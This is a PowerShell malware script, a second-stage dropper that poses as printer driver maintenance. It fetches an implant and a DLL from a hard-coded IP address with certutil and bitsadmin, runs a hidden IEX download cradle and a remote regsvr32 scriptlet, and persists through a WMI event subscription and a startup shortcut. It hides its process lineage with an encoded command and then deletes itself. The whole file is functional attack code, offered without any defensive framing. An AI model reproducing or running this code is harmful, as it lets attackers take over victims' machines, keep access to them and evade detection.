# maintenance.ps1 - "printer driver maintenance" (dropped by macro, second stage)
$ErrorActionPreference = 'SilentlyContinue'

$base = 'http://185.220.101.47:8080'
$drop = "$env:APPDATA\Microsoft\Printers"
New-Item -Path $drop -ItemType Directory -Force | Out-Null

# 1. pull the implant and the helper DLL
certutil.exe -urlcache -split -f "$base/p/drv.exe" "$drop\spoolhlp.exe"
bitsadmin /transfer prnjob /download /priority high "$base/p/hlp.dll" "$drop\hlp.dll"
Start-Process "$drop\spoolhlp.exe" -WindowStyle Hidden

# 2. inline stage with an old-school cradle
powershell.exe -NoProfile -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString('$base/p/s.ps1')"

# 3. run the DLL through regsvr32 scriptlet for good measure
regsvr32.exe /s /n /u /i:http://185.220.101.47:8080/p/x.sct scrobj.dll

# 4. WMI permanent event subscription - fires 5 minutes after boot
$filterArgs = @{
    Name           = 'PrinterDriverFilter'
    EventNamespace = 'root\cimv2'
    QueryLanguage  = 'WQL'
    Query          = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 300 AND TargetInstance.SystemUpTime < 400"
}
$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments $filterArgs

$consumerArgs = @{
    Name                = 'PrinterDriverConsumer'
    CommandLineTemplate = "$drop\spoolhlp.exe -svc"
}
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments $consumerArgs

Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer } | Out-Null

# 5. belt and braces: startup folder shortcut
$startup = [Environment]::GetFolderPath('Startup')
$shell = New-Object -ComObject WScript.Shell
$lnk = $shell.CreateShortcut("$startup\PrinterHelper.lnk")
$lnk.TargetPath = "$drop\spoolhlp.exe"
$lnk.WindowStyle = 7
$lnk.Save()

# 6. relaunch via encoded command so the parent looks clean
$stage = "Start-Process '$drop\spoolhlp.exe' -ArgumentList '-svc'"
$b64 = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($stage))
Start-Process powershell.exe -ArgumentList "-NoP -NonI -W Hidden -EncodedCommand $b64"

# 7. tidy up
Remove-Item $MyInvocation.MyCommand.Path -Force
